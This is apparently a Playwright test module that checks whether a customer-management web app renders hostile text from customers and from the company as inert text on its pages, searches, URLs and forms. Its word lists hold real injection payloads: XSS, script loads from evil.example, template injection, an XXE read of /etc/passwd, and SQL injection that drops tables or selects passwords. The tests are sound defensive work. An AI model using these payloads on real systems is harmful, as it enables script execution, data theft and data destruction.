"""Whatever words come from outside, they are read and never run: names, topics, comments, reasons, and the company's own."""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from benchmarks.deciding_states import company_with, decidable
from benchmarks.front_desk import table
from benchmarks.live_states import Publisher
from benchmarks.whole_states import UNTIL
from features.contracts.sources import SOURCES
from features.home import Home
from features.log.intake import Receipt, append
from features.times import HOUR
from serving.names.building import bring_up_to_date

pytestmark = pytest.mark.needs("chromium")

_WAYS_OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</option></select>", "</p></main>")
_WAYS_IN = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<script src=//evil.example/a.js></script>",
    "<style>@import url(//evil.example/a.css);</style>",
)
_OTHERS = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)//
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
" onfocus=alert(1) autofocus x="
' onmouseover='alert(1)
` onload=alert(1) `
x" style="background:url(//evil.example)
{{7*7}}
{% raise %}
{{ config.items() }}
${7*7}
#{7*7}
<%= 7*7 %>
%(name)s %s %d %n
{0} {} {name!r}
<iframe srcdoc='<script>parent.alert(1)</script>'>
<object data=//evil.example>
<base href=//evil.example/>
<meta http-equiv=refresh content='0;url=//evil.example'>
<form action=//evil.example><button autofocus>
<link rel=stylesheet href=//evil.example>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<details open ontoggle=alert(1)>
<a href=javascript:alert(1) autofocus>x</a>
<!--
<![CDATA[
<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)
'; DROP TABLE people; --
" OR ""="
1' UNION SELECT password FROM people --
*/ /* */
); body{display:none}
\u003cscript\u003ealert(1)
%00\0\x00
עברית العربية
👩‍👩‍👧‍👦🏳️‍🌈
'"`<>&/\
""".strip().splitlines()
_SIGNS = (
    *("\u202egnirts siht daer\u202c", "\u2066\u2067\u2068", "a\u200bb\u200d\ufeffc", "\u2028\u2029", "\ud7ff\ufffd\ufffe"),
    *("Z" + "\u0301" * 60, "W" * 190, "<" * 190, "&" * 190, "ﷺ" * 60),
)
WORDS = [*("".join(parts) for parts in itertools.product(_WAYS_OUT, _WAYS_IN)), *_OTHERS, *_SIGNS]
IDS = [f"h{number:03}" for number in range(len(WORDS))]


@pytest.fixture(scope="module")
def hostile_desk(tmp_path_factory: pytest.TempPathFactory, open_desk):
    """A desk where every word from outside is hostile, each customer's and the company's own."""
    folder = tmp_path_factory.mktemp("hostile")
    publisher = Publisher(Home(folder / "home"), folder / "signing.key")
    told = publisher.store(dict.fromkeys(IDS, 0.2), as_of=UNTIL, company_text=_company(), beside=decidable(), with_features=True)
    publisher.point_to(told)
    append(publisher.home, _rows(), receipt=Receipt(UNTIL, known_at="given"))
    bring_up_to_date(publisher.home)
    with open_desk(publisher.home) as opened:
        yield opened


@pytest.fixture
def tab(office_over, hostile_desk) -> Iterator[Page]:
    with office_over(hostile_desk).tab("admin") as opened:
        yield opened


def _company() -> str:
    words = itertools.cycle(WORDS)

    def spoilt(found: re.Match[str]) -> str:
        return found[1] + json.dumps(next(words), ensure_ascii=False)

    text = company_with(10, exploration_share=0.0, control_share=0.0)
    for place in (r"^text = ", r"^(?:benefit|script) = \{.*?en = ", r'^\[\[offers\]\]\nid = "\w+"\nname = '):
        text = re.sub(rf'(?m)({place})"[^"\n]*"', spoilt, text)
    return text


def _rows():
    """Return rows of every source, one for each hostile word, which stands wherever a source takes words."""
    moment = UNTIL - 40 * HOUR
    words = {
        "customers": ("display_name",),
        "tickets": ("topic",),
        "surveys": ("comment_topic",),
        "purchases": ("product_id",),
        "milestones": ("milestone",),
        "mentions": ("network",),
        "offers": ("channel", "outcome_reason"),
    }
    beside = {
        "tickets": {"complaint": True},
        "surveys": {"kind": "nps", "score": 3.0},
        "purchases": {"kind": "order"},
        "offers": {
            **{"decision_id": "d", "rank": 1.0, "offer_id": "gone", "kind": "up_sell", "arm": "policy", "shown_at": moment},
            **{"outcome": "declined", "outcome_at": moment + HOUR},
        },
    }

    def row(source: str, customer_id: str, word: str) -> dict[str, Any]:
        known = {SOURCES[source].key: f"x-{customer_id}", SOURCES[source].time: moment}
        who = {"customer_id": customer_id, "known_at": moment}
        return {**known, **who, **beside.get(source, {}), **dict.fromkeys(words[source], word)}

    return {source: table([row(source, *each) for each in zip(IDS, WORDS, strict=True)]) for source in words}


def test_a_hundred_hostile_words_are_read_on_the_pages_of_customers_and_none_runs(tab):
    for customer_id, word in zip(IDS, WORDS, strict=True):
        tab.goto(f"/page/customers/{customer_id}")

        assert tab.locator("h1").text_content() == word
        assert tab.locator("main").text_content().count(word) >= 7, word
        assert (tab.locator("main").count(), tab.locator("script").count(), tab.locator("article.offer").count()) == (1, 1, 3)


def test_the_companys_own_words_are_read_too(tab):
    tab.goto(f"/page/customers/{IDS[0]}")

    said = tab.locator("article.offer q, .why-not tbody th").all_text_contents()
    assert len(said) >= 10
    assert set(said) <= set(WORDS)


def test_none_runs_in_a_list_or_where_it_is_sought(tab):
    tab.goto("/page/")
    listed = tab.locator("main tbody tr").count()
    while (following := tab.locator("a[rel=next]")).count():
        following.click()
        listed += tab.locator("main tbody tr").count()
    assert listed == len(WORDS)

    for word in WORDS[::3]:
        tab.goto(f"/page/?q={quote(word)}")
        assert " ".join(word.split())[:64] in tab.locator("#search").input_value()
        expect(tab.locator("main h1")).to_have_count(1)


def test_none_runs_where_an_address_or_a_form_holds_it(tab):
    for word in WORDS[::4]:
        for path in (
            f"/page/customers/{quote(word, safe='')}",
            f"/page/?stage={quote(word)}",
            f"/page/sign-in?next={quote(word)}",
        ):
            tab.goto(path)
            expect(tab.locator("main h1")).to_have_count(1)


def test_none_runs_as_the_reason_of_an_outcome(tab, hostile_desk):
    for customer_id, word in list(zip(IDS, WORDS, strict=True))[::15]:
        tab.goto(f"/page/customers/{customer_id}")
        offer = tab.locator("article.offer").first
        offer.locator("summary").filter(has_text="Declined").click()
        offer.get_by_role("radio").last.check()
        offer.locator("input[name=reason_text]").fill(word)
        offer.get_by_role("button", name="Record that it was declined").click()
        tab.locator(".recorded").wait_for()

        assert hostile_desk.words(customer_id) == [("declined", " ".join(word.split()))]


def test_pages_of_hostile_words_bar_nobody_and_are_not_torn(tab, barriers):
    tab.set_viewport_size({"width": 320, "height": 640})
    places = [next(place for place, each in enumerate(WORDS) if part in each) for part in ("W" * 190, "</select>", "👩")]
    for path in (*(f"/page/customers/{IDS[place]}" for place in places), f"/page/?q={'W' * 20}", "/page/nobody"):
        tab.goto(path)

        assert (path, barriers(tab), tab.evaluate("document.documentElement.scrollWidth")) == (path, [], 320)


@pytest.mark.parametrize("word", _WAYS_IN)
def test_what_runs_or_asks_elsewhere_would_be_seen(office_over, hostile_desk, word):
    office = office_over(hostile_desk)
    with office.tab() as tab:
        tab.route("**/page/open", lambda route: route.fulfill(body=f"<!doctype html><main>{word}", content_type="text/html"))
        tab.goto("/page/open")
        tab.wait_for_timeout(200)

    assert office.watch.faults != []
    office.watch.faults.clear()
